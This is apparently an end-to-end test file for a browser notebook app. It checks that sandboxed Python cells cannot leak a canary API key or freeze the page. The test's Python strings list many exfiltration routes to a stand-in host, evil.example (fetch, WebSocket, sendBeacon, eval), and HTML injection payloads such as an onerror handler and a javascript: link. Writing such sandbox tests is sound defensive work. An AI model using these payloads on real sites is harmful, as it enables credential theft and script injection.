/** A notebook that does its worst, on the page: the key is nowhere, and the other cells go on. */

import { answer } from "../../server/responders.ts";
import { CanaryWatch, canaryKey, canaryPlaces } from "../canary.ts";
import { connect } from "../connection-steps.ts";
import { expect, test } from "../fixtures.ts";
import { answerOf, NotebookPage, runCell } from "../notebook-page.ts";
import { openStored } from "../stored-notebooks.ts";
import { expectEnd } from "./python-steps.ts";

/** Each line is tried by itself; what succeeds is printed. */
const attempts = `
import js, json
from pyodide.ffi import to_js
evil = "https://evil.example/?"
ways = {
  "fetch": lambda: js.fetch(evil),
  "xhr": lambda: js.XMLHttpRequest.new(),
  "socket": lambda: js.WebSocket.new("wss://evil.example"),
  "events": lambda: js.EventSource.new(evil),
  "worker": lambda: js.Worker.new(evil),
  "import": lambda: js.importScripts(evil),
  "beacon": lambda: js.navigator.sendBeacon(evil),
  "channel": lambda: js.BroadcastChannel.new("quire"),
  "database": lambda: js.indexedDB.open("quire-keys"),
  "caches": lambda: js.caches.open("x"),
  "files": lambda: js.navigator.storage.getDirectory(),
  "locks": lambda: js.navigator.locks.query(),
  "Function": lambda: js.Function("return this")(),
  "constructor": lambda: js.Object.constructor("return fetch")(),
  "eval": lambda: js.eval("fetch"),
  "post": lambda: js.postMessage("x"),
  "blob": lambda: js.URL.createObjectURL(js.Blob.new([])),
}
reached = []
for name, way in ways.items():
    try:
        way(); reached.append(name)
    except BaseException: pass
from IPython.display import HTML, display
display(HTML('''<script>window.hit = 1</script><img src="https://evil.example/i.png" onerror="window.hit = 1">
<form action="https://evil.example"><button>Send</button></form><a href="javascript:window.hit = 1">go</a>
<iframe src="https://evil.example"></iframe><style>@import "https://evil.example/s.css"; body { display: none }</style>'''))
print("reached:", json.dumps(reached))
`;

const flood = `
import sys
from IPython.display import HTML, display
print("begun")
for i in range(1_000_000_000):
    print("\\x1b[3%dm%s" % (i % 8, i) * 100)
    display(HTML("<b onclick='window.hit = 1'>%d</b>" % i))
`;

test("the key is nowhere, nothing is sent, and prompt cells run while code floods", async ({
  page,
  api,
  allow,
  open,
}) => {
  test.slow();
  allow.error(/Content Security Policy|unsafe-eval|EvalError/);
  await open();
  await connect(page, api.baseUrl, canaryKey);
  const watch = new CanaryWatch(page, api.origin);
  await openStored(page, {
    id: "hostile",
    title: "Hostile",
    cells: [
      { kind: "python", id: "a", source: attempts },
      { kind: "python", id: "b", source: flood },
      {
        kind: "chat",
        id: "c",
        name: "c",
        messages: [{ role: "user", content: "Still there?" }],
        parameters: [{ name: "model", value: '"gpt-4o"' }],
      },
      { kind: "markdown", id: "d", source: "Quiet" },
    ],
  });
  const notebook = new NotebookPage(page);
  await notebook.cell(1).getByRole("button", { name: "Run cell" }).click();
  await expectEnd(notebook.cell(1), 1);
  await expect(notebook.cell(1)).toContainText("reached: []");

  await notebook.cell(2).getByRole("button", { name: "Run cell" }).click();
  await expect(notebook.cell(2)).toContainText("begun");
  api.next(answer({ text: "I am." }));
  await runCell(notebook.cell(3));
  await expect(answerOf(notebook.cell(3))).toHaveText("I am.");
  const longest = await page.evaluate(longestPause);
  expect(longest).toBeLessThan(1_500);
  await notebook
    .cell(2)
    .getByRole("button", { name: /^(Stop|Interrupt)/ })
    .click();
  await expectEnd(notebook.cell(2), 2);

  expect(await page.evaluate(() => "hit" in window)).toBe(false);
  expect(api.journal.posts).toHaveLength(1);
  expect(await canaryPlaces(page)).toEqual([]);
  expect(await watch.settled()).toEqual([]);
});

/** In the page: how long at most a task had to wait for its turn, in two seconds, in ms. */
async function longestPause(): Promise<number> {
  let [longest, last] = [0, performance.now()];
  for (const end = last + 2_000; last < end; ) {
    await new Promise((resolve) => setTimeout(resolve, 10));
    const now = performance.now();
    longest = Math.max(longest, now - last);
    last = now;
  }
  return longest;
}
